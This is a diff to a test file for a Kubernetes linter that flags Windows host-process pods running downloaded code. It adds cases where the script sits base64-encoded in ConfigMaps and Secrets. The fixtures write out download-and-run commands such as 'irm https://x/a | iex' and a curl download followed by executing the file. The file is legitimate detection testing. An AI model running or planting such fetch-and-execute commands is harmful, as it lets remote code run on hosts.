@@ -10,7 +10,7 @@ from typing import Any
 
 import pytest
 from helm_charts import DAEMON_SET, write
-from scanning import report, scan_text, seconds
+from scanning import report, run, scan_text, seconds
 from test_commands import NEW, OLD, found, handler, pod, rules
 
 from hostprocess_lint.rules.downloads import downloaded_code
@@ -212,6 +212,62 @@ def test_mounted_scripts_are_read(text: str, reported: bool) -> None:
     assert all(each.location.start[0] == 3 and each.related[0].location.start[0] == 1 for each in findings)
 
 
+def in_base64(text: str, encoding: str = "utf-8") -> str:
+    return base64.b64encode(text.encode(encoding)).decode()
+
+
+FETCHES = "irm https://x/a | iex"
+SECRET = {"secret": {"secretName": "scripts"}}
+OF_SECRET = {"projected": {"sources": [{"secret": {"name": "scripts"}}]}}
+RENAMED = {"secret": {"secretName": "scripts", "items": [{"key": "agent", "path": "run.ps1"}]}}
+OF_MAP = {"configMap": {"name": "scripts"}}
+
+
+@pytest.mark.parametrize(
+    ("kind", "fields", "volume", "place"),
+    [
+        ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES)}}, OF_MAP, 4),
+        ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES, "utf-16")}}, OF_MAP, 4),
+        ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES, "utf-8-sig")}}, OF_MAP, 4),
+        ("ConfigMap", {"binaryData": {"run.ps1": in_base64("Get-Date")}}, OF_MAP, 0),
+        ("ConfigMap", {"binaryData": {"run.ps1": "no base64!"}}, OF_MAP, 0),
+        ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES)}}, SECRET, 0),
+        ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, SECRET, 4),
+        ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, OF_SECRET, 4),
+        ("Secret", {"data": {"agent": in_base64(FETCHES)}}, RENAMED, 4),
+        ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, OF_MAP, 0),
+        ("Secret", {"data": {"run.ps1": FETCHES}}, SECRET, 0),
+        ("Secret", {"stringData": {"run.ps1": FETCHES}}, SECRET, 4),
+        ("Secret", {"data": {"run.ps1": in_base64("Get-Date")}, "stringData": {"run.ps1": FETCHES}}, SECRET, 5),
+        ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}, "stringData": {"run.ps1": "Get-Date"}}, SECRET, 0),
+    ],
+)
+def test_scripts_are_read_wherever_an_object_holds_them(
+    kind: str, fields: dict[str, Any], volume: dict[str, Any], place: int
+) -> None:
+    """`place` is the line of the field in the object; 0 says that nothing is found."""
+    lines = [f"{field}: {json.dumps(value)}" for field, value in fields.items()]
+    holder = "\n".join(("apiVersion: v1", f"kind: {kind}", "metadata: {name: scripts}", *lines))
+    text = mounting("C:\\scripts\\run.ps1", {"volumes": [{"name": "v", **volume}]})
+    above = f"{text}\n---\n"
+    places = [
+        finding.related[-1].location.start[0] - above.count("\n")
+        for finding in scan_text(f"{above}{holder}\n").findings
+        if finding.rule == "HPC411"
+    ]
+    assert places == ([place] if place else [])
+
+
+def test_what_a_secret_holds_stands_in_no_report(tmp_path: Path) -> None:
+    data = {"run.ps1": in_base64(f"{FETCHES} # {'x' * 40}")}
+    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "scripts"}, "data": data}
+    pod_of_it = mounting("C:\\scripts\\run.ps1", {"volumes": [{"name": "v", **SECRET}]})
+    write(tmp_path, {"a.yaml": pod_of_it, "b.yaml": json.dumps(secret)})
+    shown = run("scan", "--verbose", ".", cwd=tmp_path).stdout
+    assert "HPC411" in shown
+    assert data["run.ps1"] not in shown
+
+
 def two(first: list[str], second: list[str], volume: dict[str, Any] | None = None, **mounts: str) -> str:
     """A pod with an init container. `mounts` are where it and the other mount the volume."""
     container = {"image": "registry.example/a:1.0.0"}
@@ -235,6 +291,7 @@ def download(to: str) -> list[str]:
         (two(["cmd", "/c", "curl.exe -Lo C:\\k\\a.ps1 https://x"], ["powershell", "-File", "C:\\k\\a.ps1"]), True),
         (two(download("C:\\in\\a.exe"), ["C:\\out\\a.exe"], setup="/in", own="C:\\out"), True),
         (two(download("C:\\in\\a.exe"), ["C:\\x\\a.exe"], {"hostPath": {"path": "C:\\x"}}, setup="/in"), True),
+        (two(download("C:\\in\\k\\a.exe"), ["C:\\k\\a.exe"], {"hostPath": {"path": "C:\\"}}, setup="/in"), True),
         (two(download("$env:ProgramData\\x\\a.exe"), ["powershell", "-c", "& $env:ProgramData\\x\\a.exe"]), True),
         (
             two(
